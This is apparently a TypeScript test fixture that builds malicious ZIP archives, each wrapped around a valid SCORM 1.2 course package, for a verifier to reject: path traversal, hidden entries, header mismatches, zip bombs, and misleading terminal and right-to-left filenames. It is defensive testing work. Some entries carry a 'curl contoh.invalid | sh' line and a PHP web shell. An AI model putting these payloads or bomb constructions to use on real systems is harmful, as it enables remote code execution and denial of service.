// The hostile archives `ajar verify` must reject: one per way real extractors get tricked, each wrapped around
// a good SCORM 1.2 package (the manifest ajar writes for a small Indonesian course) so the trick is the only
// thing wrong. Built at test time by zip-bytes.ts; nothing binary is committed.

import { crc32, deflateRawSync } from 'node:zlib';
import { goodEntries } from '../../fixtures/verify/broken.js';
import { unicodePathExtra, zerosDeflated, zipBytes, type ByteEntry } from './zip-bytes.js';

export interface HostileArchive {
  readonly name: string;
  /** What the archive does, in a sentence. */
  readonly trick: string;
  readonly bytes: Buffer;
  /** The rule that must reject it. */
  readonly ruleId: string;
  /** The entry name the finding must carry, when it names one. */
  readonly entry?: string;
}

const ZEROS_1MIB_CRC = crc32(Buffer.alloc(1024 * 1024)) >>> 0;
const good = (): ByteEntry[] => goodEntries().map((e) => ({ name: e.name, data: Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data ?? ''), deflate: true }));
const page = (text: string) => Buffer.from(`<!doctype html><title>${text}</title><p>${text}</p>\n`);

export function hostileArchives(): HostileArchive[] {
  const list: HostileArchive[] = [];
  const add = (a: Omit<HostileArchive, 'bytes'> & { entries: ByteEntry[] }) => list.push({ ...a, bytes: zipBytes(a.entries) });

  add({
    name: 'lewat-hitungan-scorm12.zip',
    trick: 'a central record past the entry count of the end record',
    entries: [...good(), { name: '../../.profile', data: 'curl contoh.invalid | sh\n', hidden: 'past-count' }],
    ruleId: 'zip-hidden-entry',
    entry: '../../.profile',
  });
  add({
    name: 'lewat-hitungan-jalur-scorm12.zip',
    trick: 'the record past the count carries a “..” name',
    entries: [...good(), { name: '../../.profile', data: 'curl contoh.invalid | sh\n', hidden: 'past-count' }],
    ruleId: 'zip-unsafe-path',
    entry: '../../.profile',
  });
  {
    const entries = good();
    entries.splice(2, 0, { name: '../../var/www/shell.php', data: '<?php system($_GET["c"]);', hidden: 'local-only' });
    add({ name: 'hanya-lokal-scorm12.zip', trick: 'a local header and data no central record lists', entries, ruleId: 'zip-hidden-entry', entry: '../../var/www/shell.php' });
  }
  add({
    name: 'nama-lokal-scorm12.zip',
    trick: 'the local header names “../../keluar.html”, the central record “materi/aman.html”',
    entries: [...good(), { name: 'materi/aman.html', localName: '../../keluar.html', data: page('aman') }],
    ruleId: 'zip-unsafe-path',
    entry: '../../keluar.html',
  });
  add({
    name: 'nama-lokal-beda-scorm12.zip',
    trick: 'the local header and the central record name different (both harmless) files',
    entries: [...good(), { name: 'materi/bab-1.html', localName: 'materi/bab-2.html', data: page('bab') }],
    ruleId: 'zip-header-mismatch',
    entry: 'materi/bab-1.html',
  });
  add({
    name: 'unicode-path-scorm12.zip',
    trick: 'a Unicode Path extra field (0x7075) in the central record carrying “../”',
    entries: [...good(), { name: 'materi/peta.html', data: page('peta'), centralExtra: unicodePathExtra('materi/peta.html', '../../../tmp/peta.html') }],
    ruleId: 'zip-unsafe-path',
    entry: '../../../tmp/peta.html',
  });
  add({
    name: 'unicode-path-lokal-scorm12.zip',
    trick: 'a Unicode Path extra field in the local header only',
    entries: [...good(), { name: 'materi/peta.html', data: page('peta'), localExtra: unicodePathExtra('materi/peta.html', '..\\..\\peta.html') }],
    ruleId: 'zip-unsafe-path',
    entry: '..\\..\\peta.html',
  });
  add({
    name: 'ukuran-bohong-1gib-scorm12.zip',
    trick: 'an entry declaring 1,000 bytes whose data inflates to 1 GiB',
    entries: [...good(), { name: 'materi/kecil.txt', body: zerosDeflated(1024), deflate: true, declaredSize: 1000, crc: 0x12345678 }],
    ruleId: 'zip-size-mismatch',
    entry: 'materi/kecil.txt',
  });
  add({
    name: 'ukuran-bohong-kecil-scorm12.zip',
    trick: 'an entry declaring 1,000 bytes that holds 5,000',
    entries: [...good(), { name: 'materi/teks.txt', data: Buffer.from('Moderasi beragama. '.repeat(264)), deflate: true, declaredSize: 1000 }],
    ruleId: 'zip-size-mismatch',
    entry: 'materi/teks.txt',
  });
  add({
    name: 'ukuran-lokal-beda-scorm12.zip',
    trick: 'the local header declares other sizes than the central record',
    entries: [...good(), { name: 'materi/teks.txt', data: 'Toleransi antarumat beragama.\n', localDeclaredSize: 10 }],
    ruleId: 'zip-header-mismatch',
    entry: 'materi/teks.txt',
  });
  add({
    name: 'crc-salah-scorm12.zip',
    trick: 'an entry whose CRC-32 is not its data’s',
    entries: [...good(), { name: 'materi/teks.txt', data: 'Toleransi antarumat beragama.\n', deflate: true, crc: 0xdeadbeef }],
    ruleId: 'zip-entry-corrupt',
    entry: 'materi/teks.txt',
  });
  {
    // 2,000 central records all reading one 1 MiB compressed stream (Fifield's overlapping zip bomb, flat).
    const shared: ByteEntry = { name: 'materi/nol-0.bin', body: zerosDeflated(1), deflate: true, declaredSize: 1024 * 1024, crc: ZEROS_1MIB_CRC };
    const entries = [...good(), shared];
    const index = entries.length - 1;
    for (let i = 1; i < 2000; i++) entries.push({ ...shared, name: `materi/nol-${i}.bin`, sharesLocalOf: index });
    add({ name: 'tumpang-tindih-scorm12.zip', trick: '2,000 central records sharing one compressed stream', entries, ruleId: 'zip-overlap' });
  }
  {
    // A record pointing inside another entry's stored data, where a second local header hides.
    const innerName = Buffer.from('materi/dalam.html');
    const inner = page('dalam');
    const innerDeflated = deflateRawSync(inner);
    const innerHeader = Buffer.alloc(30);
    innerHeader.writeUInt32LE(0x04034b50, 0);
    innerHeader.writeUInt16LE(20, 4);
    innerHeader.writeUInt16LE(8, 8);
    innerHeader.writeUInt32LE(innerDeflated.length, 18);
    innerHeader.writeUInt32LE(inner.length, 22);
    innerHeader.writeUInt16LE(innerName.length, 26);
    const outer = Buffer.concat([Buffer.from('awal '), innerHeader, innerName, innerDeflated, Buffer.from(' akhir')]);
    const entries = [...good(), { name: 'materi/luar.bin', data: outer }];
    entries.push({ name: 'materi/dalam.html', body: innerDeflated, deflate: true, data: inner, pointsInto: { index: entries.length - 1, offset: 5 } });
    add({ name: 'bersarang-dalam-scorm12.zip', trick: 'a record pointing into another entry’s data', entries, ruleId: 'zip-overlap', entry: 'materi/dalam.html' });
  }
  {
    // 4,000 entries of 1 MiB each, declared truthfully: no single entry looks like a bomb, the sum is 3.9 GiB.
    const mib = zerosDeflated(1);
    const entries = good();
    for (let i = 0; i < 4000; i++) entries.push({ name: `materi/bagian-${String(i).padStart(4, '0')}.bin`, body: mib, deflate: true, declaredSize: 1024 * 1024, crc: ZEROS_1MIB_CRC });
    add({ name: 'ribuan-1mib-scorm12.zip', trick: '4,000 entries of 1 MiB of zeros each (3.9 GiB from 4 MB)', entries, ruleId: 'zip-archive-ratio' });
  }
  {
    const entries = good();
    for (let i = 0; i < 5; i++) entries.push({ name: `video/bagian-${i}.mp4`, body: zerosDeflated(1024), deflate: true, declaredSize: 1024 ** 3, crc: 0 });
    add({ name: 'total-5gib-scorm12.zip', trick: 'five 1 GiB entries: 5 GiB extracted', entries, ruleId: 'zip-too-large' });
  }
  add({
    name: 'escape-nama-scorm12.zip',
    trick: 'an entry name with ANSI escape sequences that clear the terminal and fake a green verdict',
    entries: [...good(), { name: 'materi/\u001b[2J\u001b[H\u001b[32m✔ No problems.\u001b[0m.html', data: page('escape') }],
    ruleId: 'zip-unsafe-path',
    entry: 'materi/\u001b[2J\u001b[H\u001b[32m✔ No problems.\u001b[0m.html',
  });
  add({
    name: 'bidi-nama-scorm12.zip',
    trick: 'a right-to-left override that makes “lmth.exe” read as “exe.html”',
    entries: [...good(), { name: 'materi/tugas-\u202elmth.exe', data: 'MZ' }],
    ruleId: 'zip-unsafe-path',
    entry: 'materi/tugas-\u202elmth.exe',
  });
  return list;
}
